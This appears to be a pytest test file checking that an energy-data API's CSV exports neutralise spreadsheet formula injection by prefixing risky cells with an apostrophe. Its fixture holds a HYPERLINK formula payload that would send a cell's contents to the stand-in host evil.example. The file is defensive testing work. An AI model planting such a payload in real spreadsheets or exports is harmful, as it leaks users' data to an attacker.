"""CSV exports cannot carry a live spreadsheet formula: text cells that begin with =, +, -, @, tab
or CR are prefixed with ' (OWASP's advice), numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import psycopg
import pytest
from api_helpers import add_point, add_readings
from click.testing import CliRunner
from flask.testing import FlaskClient
from helpers import insight_report

from energy_api import csvcells
from energy_ingest.cli import main

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MODE = "+HALL.FAN.MODE"
TEMP = "-HALL.OAT"
LABELS = ["=1+1", "@SUM(A1:A9)", "-OFF", "+ON"]  # the enumeration's state labels, in order


@pytest.fixture
def hostile(database_url: str, spool_dir: Path, tmp_path: Path) -> str:
    """A real Insight report naming points and states like formulas, imported by the CLI."""

    def value(row: int, column: int) -> str:
        return [f"{-3.5 - row}", LABELS[row % 4], "1e-7"][column]

    names = [LINK, MODE, TEMP]
    report = tmp_path / "hostile.csv"
    report.write_bytes(
        insight_report([n.replace('"', '""') for n in names], datetime(2024, 7, 4), 4, value=value)
    )
    env = {"ENERGY_DATABASE_URL": database_url, "ENERGY_SPOOL_DIR": str(spool_dir)}
    result = CliRunner().invoke(main, ["import", str(report)], env=env, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    with psycopg.connect(database_url) as conn:
        ids = dict(conn.execute("SELECT name, id FROM points").fetchall())
    return ",".join(str(ids[n]) for n in names)


def _csv(client: FlaskClient, points: str, **params: Any) -> list[list[str]]:
    query = {"points": points, "start": "2024-07-04", "end": "2024-07-05"}
    with client.get("/api/v2/values", query_string={**query, "format": "csv", **params}) as reply:
        assert reply.status_code == 200, reply.get_data(as_text=True)
        return list(csv.reader(io.StringIO(reply.get_data(as_text=True), newline="")))


def _safe(cell: str) -> bool:
    return not cell or cell[0] not in "=+-@\t\r" or _number(cell)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    "params",
    [{"layout": "long"}, {"layout": "wide"}, {"layout": "long", "interval": "1h", "agg": "last"}],
    ids=["long", "wide", "long-1h-last"],
)
def test_no_csv_cell_of_a_values_export_begins_a_formula(
    hostile: str, client: FlaskClient, params: dict[str, str]
) -> None:
    rows = _csv(client, hostile, **params)
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if not _safe(c)] == []
    # what a formula would have been is kept, one ' ahead, and reads back as the name/label
    assert "'" + LINK in cells and "'" + MODE in cells and "'" + TEMP in cells
    assert ("'+ON" if "interval" in params else "'=1+1") in cells


def test_neutralised_cells_keep_negative_numbers_numbers_and_every_label(
    hostile: str, client: FlaskClient
) -> None:
    long = _csv(client, hostile, layout="long")
    by_point: dict[str, list[str]] = {}
    for row in long[1:]:
        by_point.setdefault(row[0], []).append(row[3])
    assert by_point["'" + TEMP] == ["1e-07"] * 4
    assert by_point["'" + LINK] == ["-3.5", "-4.5", "-5.5", "-6.5"]
    assert by_point["'" + MODE] == ["'" + label for label in LABELS]
    wide = _csv(client, hostile, layout="wide")
    assert wide[0] == ["ts", "t", "'" + LINK, "'" + MODE, "'" + TEMP]
    assert [row[2] for row in wide[1:]] == ["-3.5", "-4.5", "-5.5", "-6.5"]
    assert [row[3] for row in wide[1:]] == ["'" + label for label in LABELS]


def test_a_tab_or_cr_ahead_is_neutralised_too_and_plain_text_is_left_alone() -> None:
    assert [csvcells.text(c) for c in ["\tON", "\r=1", "ON", "", "A-1", "'x"]] == [
        "'\tON",
        "'\r=1",
        "ON",
        "",
        "A-1",
        "'x",
    ]
    assert csvcells.quoted('=A1,"x"') == '"\'=A1,""x"""'


def test_labels_beginning_with_a_tab_or_cr_are_neutralised_in_both_layouts(
    client: FlaskClient, db: psycopg.Connection[Any]
) -> None:
    states = ["\tTAB", "\rCR", "OK"]
    point = add_point(db, "HALL.ODD", kind="enum", states=states)
    t0 = datetime(2024, 7, 4, 5, tzinfo=UTC)
    add_readings(db, point, [(t0 + timedelta(minutes=15 * i), float(i)) for i in range(3)])
    for layout in ("long", "wide"):
        rows = _csv(client, str(point), layout=layout)
        assert [row[-1] for row in rows[1:]] == ["'\tTAB", "'\rCR", "OK"], layout
